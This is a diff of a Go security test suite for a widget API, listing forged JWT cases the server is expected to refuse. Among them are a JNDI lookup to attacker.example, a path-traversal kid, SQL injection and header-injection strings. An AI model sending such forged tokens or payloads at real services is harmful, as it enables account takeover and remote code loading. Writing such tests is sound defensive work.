@@ -62,13 +62,13 @@ const (
 	attackSessionOtherExt   = `{"external_id":"ws-2"}`
 	attackAuthenticateBody  = `{"user_id":"u-victim","name":"Attacker","custom_data":{"role":"admin"}}`
 	attackRevokeVictimBody  = `{"user_id":"u-victim"}`
-	attackContactNameChange = `{"device_id":"%s","name":"Attacker","email":"attacker@evil.example"}`
+	attackContactNameChange = `{"device_id":"{DevA1}","name":"Attacker","email":"attacker@evil.example"}`
+	probeOrgBody            = `{"name":"Attacker","allowed_origins":["{probe}"]}` // an org that, if created, the observer would see allow the probe origin
 )
 
 // Cases returns the whole attack table.
 func Cases() []Case {
-	var cs []Case
-	for _, part := range [][]Case{
+	return slices.Concat(
 		algNoneCases(), hs256Cases(), kidUnknownCases(), kidInjectedCases(),
 		expiredCases(), notYetValidCases(), otherOrgCases(), tamperedCases(),
 		sigStrippedCases(), revokedCases(), oversizedCases(), contactAsVerifiedCases(),
@@ -77,39 +77,44 @@ func Cases() []Case {
 		corsOriginCases(), corsPreflightCases(), corsServerRouteCases(), credentialInURLCases(),
 		securityHeaderCases(), identityKindCases(), caseFoldEmailCases(), deletedKeyTokenCases(),
 		deviceInTokenCases(), malformedEscapeCases(), jsonKeyCaseCases(), jsonKeyRepeatedCases(), jsonDeepCases(),
-	} {
-		cs = append(cs, part...)
-	}
-	return cs
+	)
 }
 
 // ---- requests ----
 
-// route is a widget route a user token is presented on.
-type route struct {
-	name   string
-	method string
-	path   func(f *Fixture) string
-	body   string
+// x fills in the fixture's values that s names: {A.key} (org A's api key),
+// {SA1} (a session), {CA1} (a token), {DevA1}, {probe} (the probe origin)...
+// {new} is a fresh UUID v4, {v7} a fresh UUID v7.
+func (f *Fixture) x(s string) string {
+	if !strings.Contains(s, "{") {
+		return s
+	}
+	return strings.NewReplacer(
+		"{A.ID}", f.A.ID, "{A.pk}", f.A.WidgetToken, "{A.key}", f.A.APIKey, "{A.keyID}", f.A.APIKeyID, "{A.origin}", f.A.Origin,
+		"{A.host}", strings.TrimPrefix(f.A.Origin, "https://"),
+		"{B.ID}", f.B.ID, "{B.pk}", f.B.WidgetToken, "{B.key}", f.B.APIKey, "{B.origin}", f.B.Origin,
+		"{admin}", f.adminToken, "{deleted}", f.DeletedKey, "{probe}", f.ProbeOrigin, "{evil}", f.EvilOrigin,
+		"{SA1}", f.SA1, "{SA1b}", f.SA1b, "{SA2}", f.SA2, "{SA3}", f.SA3, "{SV}", f.SV, "{SVws1}", f.SVws1,
+		"{SVws2}", f.SVws2, "{SR}", f.SR, "{SB1}", f.SB1, "{SBV}", f.SBV, "{Missing}", f.Missing,
+		"{CA1}", f.CA1, "{CA2}", f.CA2, "{CA3}", f.CA3, "{CB1}", f.CB1, "{V}", f.V, "{VExt}", f.VExt, "{VB}", f.VB,
+		"{R}", f.R, "{KG}", f.KG, "{Impostor}", f.Impostor, "{DevA1}", f.DevA1, "{DevB1}", f.DevB1, "{ContactA1}", f.ContactA1,
+		"{CursorA1}", url.QueryEscape(f.CursorA1), "{CursorOrgA}", url.QueryEscape(f.CursorOrgA),
+		"{new}", uuid.NewString(), "{v7}", uuid.Must(uuid.NewV7()).String(),
+	).Replace(s)
 }
 
-func fixed(p string) func(*Fixture) string { return func(*Fixture) string { return p } }
-
-var (
-	routeMe     = route{"GET /v1/widget/me", "GET", fixed("/v1/widget/me"), ""}
-	routeCreate = route{"POST /v1/widget/sessions", "POST", fixed("/v1/widget/sessions"), attackSessionBody}
-	routeList   = route{"GET /v1/widget/sessions", "GET", fixed("/v1/widget/sessions"), ""}
-	routeGet    = route{"GET /v1/widget/sessions/{A1's}", "GET", func(f *Fixture) string { return "/v1/widget/sessions/" + f.SA1 }, ""}
-	routePost   = route{"POST /v1/widget/sessions/{A1's}/messages", "POST", func(f *Fixture) string { return "/v1/widget/sessions/" + f.SA1 + "/messages" }, attackContent}
-
-	// routeForget would erase the token's contact if let through.
-	routeForget = route{"DELETE /v1/widget/me", "DELETE", fixed("/v1/widget/me"), ""}
-
-	// allRoutes are the routes behind a user token; writeRoutes the read of
-	// /me and those that would store or erase something if let through.
-	allRoutes   = []route{routeMe, routeCreate, routeList, routeGet, routePost, routeForget}
-	writeRoutes = []route{routeMe, routeCreate, routePost, routeForget}
-)
+// req is the request route ("METHOD path") with body and the header pairs h,
+// each filled in by f.x; a header whose value is "" is not sent.
+func (f *Fixture) req(route, body string, h ...string) Request {
+	method, path, _ := strings.Cut(route, " ")
+	hd := http.Header{}
+	for i := 0; i+1 < len(h); i += 2 {
+		if v := f.x(h[i+1]); v != "" {
+			hd.Set(h[i], v)
+		}
+	}
+	return Request{Method: method, Path: f.x(path), Header: hd, Body: bodyOf(f.x(body))}
+}
 
 func bodyOf(s string) []byte {
 	if s == "" {
@@ -118,69 +123,104 @@ func bodyOf(s string) []byte {
 	return []byte(s)
 }
 
+func bearer(tok string) string {
+	if tok == "" {
+		return ""
+	}
+	return "Bearer " + tok
+}
+
 // widgetReq is a widget call with widget token pk and user token tok ("" for none).
-func widgetReq(method, path, pk, tok, body string) Request {
-	h := http.Header{}
-	if pk != "" {
-		h.Set("X-Widget-Token", pk)
-	}
-	if tok != "" {
-		h.Set("Authorization", "Bearer "+tok)
-	}
-	return Request{Method: method, Path: path, Header: h, Body: bodyOf(body)}
+func (f *Fixture) widgetReq(route, pk, tok, body string) Request {
+	return f.req(route, body, "X-Widget-Token", pk, "Authorization", bearer(tok))
 }
 
-// serverReq is an org-server (or vendor) call with Authorization value auth ("" for none).
-func serverReq(method, path, auth, body string) Request {
-	h := http.Header{}
-	if auth != "" {
-		h.Set("Authorization", auth)
-	}
-	return Request{Method: method, Path: path, Header: h, Body: bodyOf(body)}
+// call is a case of one request, with the header pairs h.
+func call(class, name, route, body string, want Want, h ...string) Case {
+	return Case{Class: class, Name: name, Want: want, Req: func(f *Fixture) Request { return f.req(route, body, h...) }}
 }
 
-// token is a user token an attacker presents, with the widget token it
-// comes with.
+// wc is a case of a widget call of org A as user token tok; wcOn names the
+// widget token.
+func wc(class, name, route, tok, body string, want Want) Case {
+	return wcOn(class, name, route, "{A.pk}", tok, body, want)
+}
+
+func wcOn(class, name, route, pk, tok, body string, want Want) Case {
+	return call(class, name, route, body, want, "X-Widget-Token", pk, "Authorization", bearer(tok))
+}
+
+// sc is a case of an org-server (or vendor) call with Authorization auth.
+func sc(class, name, route, auth, body string, want Want) Case {
+	return call(class, name, route, body, want, "Authorization", auth)
+}
+
+// route is a widget route a user token is presented on.
+type route struct{ name, req, body string }
+
+var (
+	routeMe     = route{"GET /v1/widget/me", "GET /v1/widget/me", ""}
+	routeCreate = route{"POST /v1/widget/sessions", "POST /v1/widget/sessions", attackSessionBody}
+	routeList   = route{"GET /v1/widget/sessions", "GET /v1/widget/sessions", ""}
+	routeGet    = route{"GET /v1/widget/sessions/{A1's}", "GET /v1/widget/sessions/{SA1}", ""}
+	routePost   = route{"POST /v1/widget/sessions/{A1's}/messages", "POST /v1/widget/sessions/{SA1}/messages", attackContent}
+	routeForget = route{"DELETE /v1/widget/me", "DELETE /v1/widget/me", ""} // would erase the token's contact if let through
+
+	// allRoutes are the routes behind a user token; writeRoutes the read of
+	// /me and those that would store or erase something if let through.
+	allRoutes   = []route{routeMe, routeCreate, routeList, routeGet, routePost, routeForget}
+	writeRoutes = []route{routeMe, routeCreate, routePost, routeForget}
+)
+
+// userToken is a user token an attacker presents, with the widget token it
+// comes with ("" for org A's).
 type userToken struct {
 	name     string
 	needsKey bool
-	pk       func(f *Fixture) string // nil: org A's widget token
+	pk       string
 	make     func(f *Fixture) string
 	echo     []string // strings in it the answer must not repeat
 }
+
+func tok(name string, make func(f *Fixture) string) userToken {
+	return userToken{name: name, make: make}
+}
+
+func keyTok(name string, make func(f *Fixture) string) userToken {
+	return userToken{name: name, needsKey: true, make: make}
+}
+
+// fixed is a token of the fixture: fixed("{CA1}").
+func fixed(s string) func(*Fixture) string { return func(f *Fixture) string { return f.x(s) } }
 
 // tokenCases presents each token on each route and wants the same refusal.
 func tokenCases(class string, want Want, routes []route, toks ...userToken) []Case {
 	var cs []Case
 	for _, tk := range toks {
 		for _, rt := range routes {
-			cs = append(cs, Case{
-				Class:    class,
-				Name:     tk.name + ": " + rt.name,
-				NeedsKey: tk.needsKey,
+			cs = append(cs, Case{Class: class, Name: tk.name + ": " + rt.name, NeedsKey: tk.needsKey, Want: want,
 				Req: func(f *Fixture) Request {
-					pk := f.A.WidgetToken
-					if tk.pk != nil {
-						pk = tk.pk(f)
-					}
-					req := widgetReq(rt.method, rt.path(f), pk, tk.make(f), rt.body)
+					req := f.widgetReq(rt.req, cmpOr(tk.pk, "{A.pk}"), tk.make(f), rt.body)
 					req.Echo = tk.echo
 					return req
-				},
-				Want: want,
-			})
+				}})
 		}
 	}
 	return cs
 }
 
+func cmpOr(a, b string) string {
+	if a != "" {
+		return a
+	}
+	return b
+}
+
 func refusal(status int, code string) Want { return Want{Status: status, Code: code} }
 
-// ---- token material ----
+func ok(check func(*Fixture, *Response) []string) Want { return Want{Status: 200, Check: check} }
 
-func (f *Fixture) header() map[string]any {
-	return map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": f.KID}
-}
+// ---- token material ----
 
 // signed signs claims with the worker's own key under header (its kid
 // unless header says otherwise); only for cases with NeedsKey.
@@ -196,11 +236,7 @@ func (f *Fixture) signed(header, claims map[string]any) string {
 
 // timed sets a token's times: issued at iat, valid for ttl, and a fresh jti.
 func timed(c map[string]any, iat time.Time, ttl time.Duration) map[string]any {
-	c["iat"] = iat.Unix()
-	c["iat_ms"] = iat.Unix() * 1000
-	c["nbf"] = iat.Unix()
-	c["exp"] = iat.Add(ttl).Unix()
-	c["jti"] = uuid.NewString()
+	c["iat"], c["iat_ms"], c["nbf"], c["exp"], c["jti"] = iat.Unix(), iat.Unix()*1000, iat.Unix(), iat.Add(ttl).Unix(), uuid.NewString()
 	return c
 }
 
@@ -209,40 +245,40 @@ func (f *Fixture) contactClaims() map[string]any {
 	return timed(f.claimsOf(f.CA1), time.Now(), time.Hour)
 }
 
-func (f *Fixture) victimClaims() map[string]any {
-	return timed(f.claimsOf(f.V), time.Now(), time.Hour)
+// resigned signs A1's fresh claims changed by fn with the worker's key.
+func resigned(fn func(f *Fixture, c map[string]any)) func(*Fixture) string {
+	return func(f *Fixture) string {
+		c := f.contactClaims()
+		fn(f, c)
+		return f.signed(nil, c)
+	}
 }
 
 // ---- token classes ----
 
 func algNoneCases() []Case {
-	none := func(alg string, withKID bool, victim bool, sig func(f *Fixture) string) func(f *Fixture) string {
+	none := func(alg string, withKID, victim, keepSig bool) func(f *Fixture) string {
 		return func(f *Fixture) string {
-			h := map[string]any{"alg": alg}
+			h, claims, sig := map[string]any{"alg": alg}, f.claimsOf(f.CA1), ""
 			if withKID {
 				h["typ"], h["kid"] = "JWT", f.KID
 			}
-			claims := f.claimsOf(f.CA1)
 			if victim {
 				claims = f.claimsOf(f.V)
 			}
-			s := ""
-			if sig != nil {
-				s = sig(f)
+			if keepSig {
+				_, _, sig = jwtParts(f.CA1)
 			}
-			return unsigned(h, claims, s)
+			return seg(h) + "." + seg(claims) + "." + sig // alg none: no signature, or a kept one
 		}
 	}
-	keptSig := func(f *Fixture) string { _, _, s := jwtParts(f.CA1); return s }
 	return tokenCases(ClassAlgNone, refusal(401, invalidToken), allRoutes,
-		userToken{name: "alg none, empty signature", make: none("none", true, false, nil)},
-		userToken{name: "alg None", make: none("None", true, false, nil)},
-		userToken{name: "alg NONE, no kid", make: none("NONE", false, false, nil)},
-		userToken{name: "alg none, genuine signature kept", make: none("none", true, false, keptSig)},
-		userToken{name: "alg none, the victim's verified claims", make: none("none", true, true, nil)},
-		userToken{name: "no alg at all, genuine signature kept", make: func(f *Fixture) string {
-			return withHeader(f.CA1, map[string]any{"typ": "JWT", "kid": f.KID})
-		}},
+		tok("alg none, empty signature", none("none", true, false, false)),
+		tok("alg None", none("None", true, false, false)),
+		tok("alg NONE, no kid", none("NONE", false, false, false)),
+		tok("alg none, genuine signature kept", none("none", true, false, true)),
+		tok("alg none, the victim's verified claims", none("none", true, true, false)),
+		tok("no alg at all, genuine signature kept", func(f *Fixture) string { return withHeader(f.CA1, map[string]any{"typ": "JWT", "kid": f.KID}) }),
 	)
 }
 
@@ -260,12 +296,12 @@ func hs256Cases() []Case {
 	x := func(f *Fixture) []byte { return []byte(b64(f.PublicKey)) }
 	doc := func(f *Fixture) []byte { return f.JWKS }
 	return tokenCases(ClassAlgHS256, refusal(401, invalidToken), allRoutes,
-		userToken{name: "HS256 keyed with the public key's bytes", make: hs("HS256", raw, false)},
-		userToken{name: "HS256 keyed with the JWKS x string", make: hs("HS256", x, false)},
-		userToken{name: "HS256 keyed with the whole JWKS", make: hs("HS256", doc, false)},
-		userToken{name: "HS384 keyed with the public key", make: hs("HS384", raw, false)},
-		userToken{name: "HS512 keyed with the public key", make: hs("HS512", raw, false)},
-		userToken{name: "HS256 keyed with the public key, the victim's claims", make: hs("HS256", raw, true)},
+		tok("HS256 keyed with the public key's bytes", hs("HS256", raw, false)),
+		tok("HS256 keyed with the JWKS x string", hs("HS256", x, false)),
+		tok("HS256 keyed with the whole JWKS", hs("HS256", doc, false)),
+		tok("HS384 keyed with the public key", hs("HS384", raw, false)),
+		tok("HS512 keyed with the public key", hs("HS512", raw, false)),
+		tok("HS256 keyed with the public key, the victim's claims", hs("HS256", raw, true)),
 	)
 }
 
@@ -273,251 +309,189 @@ func kidUnknownCases() []Case {
 	att := func(header func(f *Fixture) map[string]any) func(f *Fixture) string {
 		return func(f *Fixture) string { return signEd(f.Attacker, header(f), f.contactClaims()) }
 	}
+	genuine := func(kid func(f *Fixture) string) func(f *Fixture) string {
+		return func(f *Fixture) string {
+			return f.signed(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": kid(f)}, f.contactClaims())
+		}
+	}
 	return tokenCases(ClassKIDUnknown, refusal(401, invalidToken), writeRoutes,
-		userToken{name: "attacker's key, unknown kid", make: att(func(*Fixture) map[string]any {
+		tok("attacker's key, unknown kid", att(func(*Fixture) map[string]any {
 			return map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": "attacker-1"}
-		})},
-		userToken{name: "attacker's key, no kid", make: att(func(*Fixture) map[string]any {
-			return map[string]any{"alg": "EdDSA", "typ": "JWT"}
-		})},
-		userToken{name: "attacker's key, the worker's kid", make: att(func(f *Fixture) map[string]any { return f.header() })},
-		userToken{name: "attacker's key, empty kid", make: att(func(*Fixture) map[string]any {
-			return map[string]any{"alg": "EdDSA", "kid": ""}
-		})},
-		userToken{name: "attacker's key, numeric kid", make: att(func(*Fixture) map[string]any {
-			return map[string]any{"alg": "EdDSA", "kid": 1}
-		})},
-		userToken{name: "attacker's key embedded as a jwk header", make: att(func(f *Fixture) map[string]any {
+		})),
+		tok("attacker's key, no kid", att(func(*Fixture) map[string]any { return map[string]any{"alg": "EdDSA", "typ": "JWT"} })),
+		tok("attacker's key, the worker's kid", att(func(f *Fixture) map[string]any { return map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": f.KID} })),
+		tok("attacker's key, empty kid", att(func(*Fixture) map[string]any { return map[string]any{"alg": "EdDSA", "kid": ""} })),
+		tok("attacker's key, numeric kid", att(func(*Fixture) map[string]any { return map[string]any{"alg": "EdDSA", "kid": 1} })),
+		tok("attacker's key embedded as a jwk header", att(func(f *Fixture) map[string]any {
 			pub := f.Attacker.Public().(ed25519.PublicKey)
 			return map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": "attacker-1",
 				"jwk": map[string]any{"kty": "OKP", "crv": "Ed25519", "x": b64(pub), "kid": "attacker-1"}}
-		})},
-		userToken{name: "attacker's key named by a jku header", make: att(func(f *Fixture) map[string]any {
+		})),
+		tok("attacker's key named by a jku header", att(func(f *Fixture) map[string]any {
 			return map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": f.KID, "jku": "https://attacker.example/jwks.json"}
-		})},
-		userToken{name: "genuine signature under a kid the worker lacks", needsKey: true, make: func(f *Fixture) string {
-			return f.signed(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": f.KID + "-old"}, f.contactClaims())
-		}},
-		userToken{name: "genuine signature under the kid in upper case", needsKey: true, make: func(f *Fixture) string {
-			return f.signed(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": strings.ToUpper(f.KID)}, f.contactClaims())
-		}},
+		})),
+		keyTok("genuine signature under a kid the worker lacks", genuine(func(f *Fixture) string { return f.KID + "-old" })),
+		keyTok("genuine signature under the kid in upper case", genuine(func(f *Fixture) string { return strings.ToUpper(f.KID) })),
 	)
 }
 
 func kidInjectedCases() []Case {
-	kids := []struct{ name, kid string }{
-		{"path traversal", "../../etc/passwd"},
-		{"SQL", "' OR 1=1 --"},
-		{"4 KiB long", strings.Repeat("K", 4096)},
-		{"NUL byte", "x\x00y"},
-		{"URL", "https://attacker.example/jwks.json"},
-		{"JNDI", "${jndi:ldap://attacker.example/a}"},
-		{"header injection", "k\r\nX-Injected: 1"},
-	}
 	var toks []userToken
-	for _, k := range kids {
+	for _, k := range []struct{ name, kid string }{
+		{"path traversal", "../../etc/passwd"}, {"SQL", "' OR 1=1 --"}, {"4 KiB long", strings.Repeat("K", 4096)},
+		{"NUL byte", "x\x00y"}, {"URL", "https://attacker.example/jwks.json"}, {"JNDI", "${jndi:ldap://attacker.example/a}"},
+		{"header injection", "k\r\nX-Injected: 1"},
+	} {
+		h := map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": k.kid}
 		toks = append(toks,
-			userToken{name: "kid " + k.name + ", attacker's key", echo: []string{k.kid}, make: func(f *Fixture) string {
-				return signEd(f.Attacker, map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": k.kid}, f.contactClaims())
-			}},
-			userToken{name: "kid " + k.name + ", genuine signature", needsKey: true, echo: []string{k.kid}, make: func(f *Fixture) string {
-				return f.signed(map[string]any{"alg": "EdDSA", "typ": "JWT", "kid": k.kid}, f.contactClaims())
-			}},
-		)
+			userToken{name: "kid " + k.name + ", attacker's key", echo: []string{k.kid},
+				make: func(f *Fixture) string { return signEd(f.Attacker, h, f.contactClaims()) }},
+			userToken{name: "kid " + k.name + ", genuine signature", needsKey: true, echo: []string{k.kid},
+				make: func(f *Fixture) string { return f.signed(h, f.contactClaims()) }})
 	}
 	return tokenCases(ClassKIDInjected, refusal(401, invalidToken), writeRoutes, toks...)
 }
 
+// signedAt signs the claims of token t issued at now+at, valid for ttl.
+func signedAt(t string, at, ttl time.Duration) func(*Fixture) string {
+	return func(f *Fixture) string { return f.signed(nil, timed(f.claimsOf(f.x(t)), time.Now().Add(at), ttl)) }
+}
+
 func expiredCases() []Case {
 	return tokenCases(ClassExpired, refusal(401, tokenExpired), allRoutes,
-		userToken{name: "contact token expired an hour ago", needsKey: true, make: func(f *Fixture) string {
-			return f.signed(nil, timed(f.claimsOf(f.CA1), time.Now().Add(-2*time.Hour), time.Hour))
-		}},
-		userToken{name: "verified token expired ten minutes ago", needsKey: true, make: func(f *Fixture) string {
-			return f.signed(nil, timed(f.claimsOf(f.V), time.Now().Add(-70*time.Minute), time.Hour))
-		}},
-	)
+		keyTok("contact token expired an hour ago", signedAt("{CA1}", -2*time.Hour, time.Hour)),
+		keyTok("verified token expired ten minutes ago", signedAt("{V}", -70*time.Minute, time.Hour)))
 }
 
 func notYetValidCases() []Case {
 	return tokenCases(ClassNotYetValid, refusal(401, invalidToken), writeRoutes,
-		userToken{name: "issued an hour from now", needsKey: true, make: func(f *Fixture) string {
-			return f.signed(nil, timed(f.claimsOf(f.CA1), time.Now().Add(time.Hour), time.Hour))
-		}},
-		userToken{name: "nbf an hour from now", needsKey: true, make: func(f *Fixture) string {
-			c := f.contactClaims()
-			c["nbf"] = time.Now().Add(time.Hour).Unix()
-			return f.signed(nil, c)
-		}},
-		userToken{name: "verified, issued a day from now", needsKey: true, make: func(f *Fixture) string {
-			return f.signed(nil, timed(f.claimsOf(f.V), time.Now().Add(24*time.Hour), 48*time.Hour))
-		}},
-	)
+		keyTok("issued an hour from now", signedAt("{CA1}", time.Hour, time.Hour)),
+		keyTok("nbf an hour from now", resigned(func(_ *Fixture, c map[string]any) { c["nbf"] = time.Now().Add(time.Hour).Unix() })),
+		keyTok("verified, issued a day from now", signedAt("{V}", 24*time.Hour, 48*time.Hour)))
 }
 
 func otherOrgCases() []Case {
-	pkB := func(f *Fixture) string { return f.B.WidgetToken }
 	return tokenCases(ClassOtherOrg, refusal(401, invalidToken), allRoutes,
-		userToken{name: "org B's contact token with A's widget token", make: func(f *Fixture) string { return f.CB1 }},
-		userToken{name: "org B's verified token (same user_id) with A's widget token", make: func(f *Fixture) string { return f.VB }},
-		userToken{name: "org A's contact token with B's widget token", pk: pkB, make: func(f *Fixture) string { return f.CA1 }},
-		userToken{name: "org A's verified token with B's widget token", pk: pkB, make: func(f *Fixture) string { return f.V }},
-		userToken{name: "genuine signature, aud org B, with A's widget token", needsKey: true, make: func(f *Fixture) string {
-			c := f.contactClaims()
-			c["aud"] = []string{f.B.ID}
-			return f.signed(nil, c)
-		}},
-		userToken{name: "genuine signature, aud a prefix-extension of org A", needsKey: true, make: func(f *Fixture) string {
-			c := f.contactClaims()
-			c["aud"] = f.A.ID + "x"
-			return f.signed(nil, c)
-		}},
+		tok("org B's contact token with A's widget token", fixed("{CB1}")),
+		tok("org B's verified token (same user_id) with A's widget token", fixed("{VB}")),
+		userToken{name: "org A's contact token with B's widget token", pk: "{B.pk}", make: fixed("{CA1}")},
+		userToken{name: "org A's verified token with B's widget token", pk: "{B.pk}", make: fixed("{V}")},
+		keyTok("genuine signature, aud org B, with A's widget token", resigned(func(f *Fixture, c map[string]any) { c["aud"] = []string{f.B.ID} })),
+		keyTok("genuine signature, aud a prefix-extension of org A", resigned(func(f *Fixture, c map[string]any) { c["aud"] = f.A.ID + "x" })),
 	)
 }
 
-func tamperedCases() []Case {
-	tamper := func(tok func(f *Fixture) string, fn func(f *Fixture, c map[string]any)) func(f *Fixture) string {
-		return func(f *Fixture) string {
-			t := tok(f)
-			return withPayload(t, edit(f.claimsOf(t), func(c map[string]any) { fn(f, c) }))
-		}
+// tamper keeps token t's header and signature around its claims changed by fn.
+func tamper(t string, fn func(f *Fixture, c map[string]any)) func(f *Fixture) string {
+	return func(f *Fixture) string {
+		tk := f.x(t)
+		return withPayload(tk, edit(f.claimsOf(tk), func(c map[string]any) { fn(f, c) }))
 	}
-	ca1 := func(f *Fixture) string { return f.CA1 }
-	v := func(f *Fixture) string { return f.V }
-	vext := func(f *Fixture) string { return f.VExt }
+}
+
+func tamperedCases() []Case {
 	return tokenCases(ClassTampered, refusal(401, invalidToken), writeRoutes,
-		userToken{name: "contact sub changed to device A2", make: tamper(ca1, func(f *Fixture, c map[string]any) { c["sub"] = f.DevA2 })},
-		userToken{name: "contact cid changed", make: tamper(ca1, func(f *Fixture, c map[string]any) { c["cid"] = uuid.NewString() })},
-		userToken{name: "aud changed to org B, with B's widget token", pk: func(f *Fixture) string { return f.B.WidgetToken },
-			make: tamper(ca1, func(f *Fixture, c map[string]any) { c["aud"] = []string{f.B.ID} })},
-		userToken{name: "exp pushed a year ahead", make: tamper(ca1, func(f *Fixture, c map[string]any) {
-			c["exp"] = time.Now().AddDate(1, 0, 0).Unix()
-		})},
-		userToken{name: "verified: external_id changed to ws-2", make: tamper(vext, func(f *Fixture, c map[string]any) { c["external_id"] = OtherExt })},
-		userToken{name: "verified: external_id removed", make: tamper(vext, func(f *Fixture, c map[string]any) { delete(c, "external_id") })},
-		userToken{name: "verified: sub and uid changed", make: tamper(v, func(f *Fixture, c map[string]any) { c["sub"], c["uid"] = "u-other", "u-other" })},
-		userToken{name: "verified: email changed", make: tamper(v, func(f *Fixture, c map[string]any) { c["email"] = "admin@shop-a.example" })},
-		userToken{name: "same claims re-encoded", make: tamper(ca1, func(*Fixture, map[string]any) {})},
-		userToken{name: "header changed (typ)", make: func(f *Fixture) string {
+		tok("contact sub changed to device A2", tamper("{CA1}", func(f *Fixture, c map[string]any) { c["sub"] = f.DevA2 })),
+		tok("contact cid changed", tamper("{CA1}", func(f *Fixture, c map[string]any) { c["cid"] = uuid.NewString() })),
+		userToken{name: "aud changed to org B, with B's widget token", pk: "{B.pk}",
+			make: tamper("{CA1}", func(f *Fixture, c map[string]any) { c["aud"] = []string{f.B.ID} })},
+		tok("exp pushed a year ahead", tamper("{CA1}", func(f *Fixture, c map[string]any) { c["exp"] = time.Now().AddDate(1, 0, 0).Unix() })),
+		tok("verified: external_id changed to ws-2", tamper("{VExt}", func(f *Fixture, c map[string]any) { c["external_id"] = OtherExt })),
+		tok("verified: external_id removed", tamper("{VExt}", func(f *Fixture, c map[string]any) { delete(c, "external_id") })),
+		tok("verified: sub and uid changed", tamper("{V}", func(f *Fixture, c map[string]any) { c["sub"], c["uid"] = "u-other", "u-other" })),
+		tok("verified: email changed", tamper("{V}", func(f *Fixture, c map[string]any) { c["email"] = "admin@shop-a.example" })),
+		tok("same claims re-encoded", tamper("{CA1}", func(*Fixture, map[string]any) {})),
+		tok("header changed (typ)", func(f *Fixture) string {
 			return withHeader(f.CA1, map[string]any{"alg": "EdDSA", "typ": "JWS", "kid": f.KID})
-		}},
-		userToken{name: "payload with base64 padding", make: func(f *Fixture) string {
+		}),
+		tok("payload with base64 padding", func(f *Fixture) string {
 			h, p, s := jwtParts(f.CA1)
 			return h + "." + p + strings.Repeat("=", (4-len(p)%4)%4+4) + "." + s
-		}},
+		}),
 	)
 }
 
 func sigStrippedCases() []Case {
-	strip := func(tok func(f *Fixture) string, sig func(f *Fixture, s string) string, dots int) func(f *Fixture) string {
+	// sig replaces the signature of token t; nil drops the segment.
+	strip := func(t string, sig func(f *Fixture, s string) string) func(f *Fixture) string {
 		return func(f *Fixture) string {
-			h, p, s := jwtParts(tok(f))
-			if dots == 1 {
+			h, p, s := jwtParts(f.x(t))
+			if sig == nil {
 				return h + "." + p
 			}
 			return h + "." + p + "." + sig(f, s)
 		}
 	}
-	ca1 := func(f *Fixture) string { return f.CA1 }
+	empty := func(*Fixture, string) string { return "" }
 	return tokenCases(ClassSigStripped, refusal(401, invalidToken), allRoutes,
-		userToken{name: "contact token, empty signature", make: strip(ca1, func(*Fixture, string) string { return "" }, 2)},
-		userToken{name: "contact token, no signature segment", make: strip(ca1, nil, 1)},
-		userToken{name: "verified token, empty signature", make: strip(func(f *Fixture) string { return f.V }, func(*Fixture, string) string { return "" }, 2)},
-		userToken{name: "another token's signature", make: strip(ca1, func(f *Fixture, _ string) string { _, _, s := jwtParts(f.CA2); return s }, 2)},
-		userToken{name: "signature truncated", make: strip(ca1, func(_ *Fixture, s string) string { return s[:len(s)/2] }, 2)},
-		userToken{name: "signature of zero bytes", make: strip(ca1, func(*Fixture, string) string { return b64(make([]byte, 64)) }, 2)},
-		userToken{name: "signature with one bit flipped", make: strip(ca1, func(_ *Fixture, s string) string { return b64(flipBit(unb64(s), 77)) }, 2)},
-		userToken{name: "signature malleated, S + L (passes a lax Ed25519 check)", make: strip(ca1, func(_ *Fixture, s string) string { return b64(malleate(unb64(s))) }, 2)},
+		tok("contact token, empty signature", strip("{CA1}", empty)),
+		tok("contact token, no signature segment", strip("{CA1}", nil)),
+		tok("verified token, empty signature", strip("{V}", empty)),
+		tok("another token's signature", strip("{CA1}", func(f *Fixture, _ string) string { _, _, s := jwtParts(f.CA2); return s })),
+		tok("signature truncated", strip("{CA1}", func(_ *Fixture, s string) string { return s[:len(s)/2] })),
+		tok("signature of zero bytes", strip("{CA1}", func(*Fixture, string) string { return b64(make([]byte, 64)) })),
+		tok("signature with one bit flipped", strip("{CA1}", func(_ *Fixture, s string) string { return b64(flipBit(unb64(s), 77)) })),
+		tok("signature malleated, S + L (passes a lax Ed25519 check)", strip("{CA1}", func(_ *Fixture, s string) string { return b64(malleate(unb64(s))) })),
 	)
 }
 
 func revokedCases() []Case {
-	r := func(f *Fixture) string { return f.R }
-	cs := tokenCases(ClassRevoked, refusal(401, tokenRevoked), allRoutes, userToken{name: "revoked user's token", make: r})
+	r := tok("revoked user's token", fixed("{R}"))
 	own := []route{
-		{"GET /v1/widget/sessions/{its own}", "GET", func(f *Fixture) string { return "/v1/widget/sessions/" + f.SR }, ""},
-		{"POST /v1/widget/sessions/{its own}/messages", "POST", func(f *Fixture) string { return "/v1/widget/sessions/" + f.SR + "/messages" }, attackContent},
+		{"GET /v1/widget/sessions/{its own}", "GET /v1/widget/sessions/{SR}", ""},
+		{"POST /v1/widget/sessions/{its own}/messages", "POST /v1/widget/sessions/{SR}/messages", attackContent},
 	}
-	cs = append(cs, tokenCases(ClassRevoked, refusal(401, tokenRevoked), own, userToken{name: "revoked user's token", make: r})...)
-	cs = append(cs, tokenCases(ClassRevoked, refusal(401, tokenRevoked), writeRoutes,
-		userToken{name: "revoked user's claims re-signed without iat_ms", needsKey: true, make: func(f *Fixture) string {
+	want := refusal(401, tokenRevoked)
+	return slices.Concat(tokenCases(ClassRevoked, want, allRoutes, r), tokenCases(ClassRevoked, want, own, r),
+		tokenCases(ClassRevoked, want, writeRoutes, keyTok("revoked user's claims re-signed without iat_ms", func(f *Fixture) string {
 			c := f.claimsOf(f.R)
 			delete(c, "iat_ms")
 			return f.signed(nil, c)
-		}})...)
-	return cs
+		})))
 }
 
 func oversizedCases() []Case {
 	pad := func(n int) string { return strings.Repeat("A", n) }
 	platform := func(status int, code string) Want { return Want{Status: status, Code: code, Platform: true} }
-	return []Case{
-		{Class: ClassOversized, Name: "9 KiB token with a genuine signature: GET /v1/widget/me", NeedsKey: true,
-			Req: func(f *Fixture) Request {
-				c := f.contactClaims()
-				c["pad"] = pad(9 << 10)
